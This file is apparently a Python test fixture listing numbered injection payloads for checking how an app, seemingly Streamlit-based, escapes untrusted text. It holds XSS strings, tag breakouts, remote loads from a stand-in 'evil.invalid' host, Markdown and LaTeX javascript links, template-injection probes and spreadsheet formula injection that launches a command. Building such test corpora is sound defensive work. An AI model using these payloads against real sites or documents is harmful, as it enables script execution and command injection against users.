"""Texts that try to be more than text. Each carries its number, so that it is found again."""

RUN = "window.arfRan=1;alert(1)"
AWAY = "http://evil.invalid"

_TEMPLATES = (
    # HTML that runs, or fetches
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    '<svg><script href="{away}/s.js"></script></svg>',
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>parent.arfRan=1</script>"></iframe>',
    '<iframe src="{away}/frame"></iframe>',
    '<img src="{away}/pixel.png">',
    '<picture><source srcset="{away}/p.webp"><img></picture>',
    '<style>@import url("{away}/s.css");</style>',
    '<div style="background:url({away}/b.png)">x</div>',
    '<link rel="stylesheet" href="{away}/l.css">',
    '<meta http-equiv="refresh" content="0;url={away}/">',
    '<base href="{away}/">',
    '<object data="{away}/o.swf"></object>',
    '<embed src="{away}/e.swf">',
    '<video src="{away}/v.mp4" onerror={run} autoplay></video>',
    '<audio src="{away}/a.mp3" autoplay></audio>',
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    '<a href="javascript:{run}">press</a>',
    '<form action="{away}/"><button>press</button></form>',
    # breaking out of where it stands
    "</div></div><script>{run}</script>",
    '"><svg onload={run}>',
    "' onmouseover='{run}' autofocus onfocus='{run}",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "</style><script>{run}</script>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    # Markdown, LaTeX, Streamlit's own marks
    "![a]({away}/md.png)",
    "[press](javascript:{run})",
    "[![a]({away}/i.png)](javascript:{run})",
    "[r]: {away}/ref\n![b][r]",
    "<{away}/auto> and {away}/bare",
    "$\\href{{javascript:{run}}}{{x}}$",
    "$$\\includegraphics{{{away}/tex.png}}$$",
    ":material/home: :red[red] :smile: :streamlit:",
    "# heading\n> quote\n```\ncode\n```\n| a | b |\n|---|---|",
    "**bold** _it_ ~~gone~~ `code` ***",
    # text that only looks otherwise
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\u202eevil txt.exe\u202c and \u2066isolated\u2069",
    "bell \x07 escape \x1b[31m red, delete \x7f, next line \x85",
    "W" * 1900,
    "\u0300" * 50 + "zalgo",
    "{{{{7*7}}}} ${{7*7}} #{{7*7}} <%= 7*7 %>",
    # spreadsheet formulas
    '=HYPERLINK("{away}/","press")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def _numbered(number: int, template: str) -> str:
    text = template.format(run=RUN, away=AWAY) if "{" in template else template
    return f"{text} P{number:02d}"


PAYLOADS = tuple(_numbered(n, template) for n, template in enumerate(_TEMPLATES))
assert len(PAYLOADS) >= 40
